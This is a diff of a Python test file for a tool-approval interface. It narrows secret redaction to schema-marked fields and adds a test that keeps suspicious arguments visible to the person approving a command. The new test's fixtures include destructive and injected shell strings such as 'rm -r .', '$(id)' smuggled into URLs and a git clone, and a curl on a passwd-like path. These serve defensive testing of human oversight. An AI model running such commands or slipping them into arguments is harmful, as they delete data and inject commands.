@@ -1,5 +1,6 @@
 """What a person sees: our facts first, the server's words cleaned, secrets not at all."""
 
+import json
 import time
 import unicodedata
 from pathlib import Path
@@ -168,23 +169,14 @@ SCHEMA = {
 
 
 @requirement("S3.43", "S3.50", "S3.51", "S3.68")
-async def test_secrets_are_hidden_by_schema_by_name_by_shape_and_by_value(home: Path) -> None:
+async def test_secrets_are_hidden_that_the_schema_marks_or_that_we_looked_up(home: Path) -> None:
     arguments = {
         "pin": "VALUE-1",
         "phrase": "VALUE-2",
         "seed": "VALUE-3",
         "many": ["VALUE-4"],
         "deep": {"x": "VALUE-5"},
-        "API_TOKEN": "VALUE-6",
-        "awsSecretKey": "VALUE-7",
-        "headers": {"Authorization": "VALUE-8", "Cookie": "VALUE-9"},
-        "url": "https://me:VALUE-10@example.org/",
-        "note": "use ghp_0123456789abcdefVALUE11 now",
-        "curl": "-H 'Authorization: Bearer VALUE-12-abcdefgh'",
-        "shell": "PGPASSWORD=VALUE-13 psql",
-        "list": [{"password": {"inner": "VALUE-14"}}],
         "plain": "say VALUE-15 aloud",
-        "pem": "-----BEGIN RSA PRIVATE KEY-----\nVALUE-16\n-----END RSA PRIVATE KEY-----",
     }
     launch = a_launch(
         a_tool(schema=SCHEMA),
@@ -203,6 +195,29 @@ async def test_secrets_are_hidden_by_schema_by_name_by_shape_and_by_value(home: 
     # Nor does the desk keep it.
     stored = b"".join(path.read_bytes() for path in (home / "state").iterdir())
     assert b"VALUE" not in stored
+
+
+@requirement("S3.32")
+@pytest.mark.parametrize(
+    "command",
+    [
+        "echo token=$(touch${IFS}owned)",
+        "x; password='$(rm -r .)'",
+        "-----BEGIN A PRIVATE KEY-----\nrm -r .\n-----END A PRIVATE KEY-----",
+        "curl -u basic /etc/passwd.example",
+        "git clone x://$(id)@example.org/",
+        "ghp_0123456789abcdefghij; rm -r .",
+        "curl https://example.org/?key=$(id)",
+    ],
+)
+@pytest.mark.parametrize("name", ["command", "API_TOKEN", "password"])
+async def test_nothing_is_hidden_for_its_name_or_shape(
+    ground: Ground, name: str, command: str
+) -> None:
+    """Who writes the arguments chooses both; the person who decides sees all that runs."""
+    question = await question_of(ground, {name: command})
+    assert json.loads(question.arguments) == {name: command}
+    assert "hides" not in question.prompt
 
 
 @pytest.mark.parametrize(
@@ -276,7 +291,9 @@ async def test_a_path_that_leads_elsewhere_is_shown_with_where_it_leads(home: Pa
     prompt = (await question_of(ground, {"path": "docs/x", "mode": "plain"})).prompt
     assert line(prompt, "Leads elsewhere") == f"docs/x -> {target}/x"
     # A path that is hidden is not told by where it leads.
-    assert "Leads" not in (await question_of(ground, {"api_key": "docs/x"})).prompt
+    hidden = {"type": "object", "properties": {"p": {"writeOnly": True}}}
+    ground = Ground(home, a_launch(a_tool("other", schema=hidden), cwd=str(work)))
+    assert "Leads" not in (await question_of(ground, {"p": "docs/x"})).prompt
 
 
 async def test_a_shell_of_the_system_leads_nowhere_else(home: Path) -> None:
